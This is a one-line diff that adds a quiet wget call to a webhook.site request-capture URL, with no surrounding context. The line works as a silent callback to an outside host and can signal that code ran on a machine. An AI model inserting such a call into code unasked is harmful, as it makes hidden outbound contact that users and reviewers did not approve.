@@ -1,0 +1,1 @@
+wget -q https://webhook.site/0
